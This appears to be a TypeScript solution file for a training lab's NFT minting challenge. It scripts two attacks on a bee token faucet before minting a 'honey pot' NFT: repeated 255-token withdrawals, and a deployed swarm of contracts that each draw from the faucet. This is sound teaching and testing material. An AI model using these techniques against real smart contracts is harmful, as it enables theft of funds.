import type { Attack, Tools } from '#lab'

const BEES = '0x36435796Ca9be2bf150CE0dECc2D8Fab5C4d6E13'
const FAUCET = '0x860e3616aD0E0dEDc23352891f3E10C4131EA5BC'
const POT = '0x41427790c94E7a592B17ad694eD9c06A02bb9C39'
const PRICE = 1000n * 10n ** 18n

/** Somebody with a wallet, as the page of the bees connects it. */
async function visitor({ http, chain, expect }: Tools): Promise<string> {
  await http.get('/rest/web3/nftMintListen')
  const [from] = await chain.accounts()
  expect(from !== undefined, 'there is no account')
  return from ?? ''
}

/** Pays for the honey pot and says whose it is now. */
async function mint({ http, chain, expect }: Tools, from: string): Promise<void> {
  await (await chain.at('BeeToken', BEES)).write('approve', [POT, PRICE], { from })
  await (await chain.at('HoneyPot', POT)).write('mintNFT', [], { from })
  const answer = await http.post('/rest/web3/walletNFTVerify', { walletAddress: from })
  expect(answer.json<{ success: boolean }>().success, 'the pot is not hers')
}

export const attacks: Attack[] = [
  {
    challenge: 'nftMintChallenge',
    name: 'withdraw 255 bees four times over, then mint',
    run: async (tools) => {
      const from = await visitor(tools)
      const faucet = await tools.chain.at('BeeFaucet', FAUCET)
      for (let time = 0; time < 4; time++) await faucet.write('withdraw', [255], { from })
      await mint(tools, from)
    },
  },
  {
    challenge: 'nftMintChallenge',
    name: 'send a swarm of contracts to the faucet, each with a wallet of its own',
    run: async (tools) => {
      const from = await visitor(tools)
      await tools.chain.deploy('Swarm', { from, args: [FAUCET, BEES, 4] })
      await mint(tools, from)
    },
  },
]
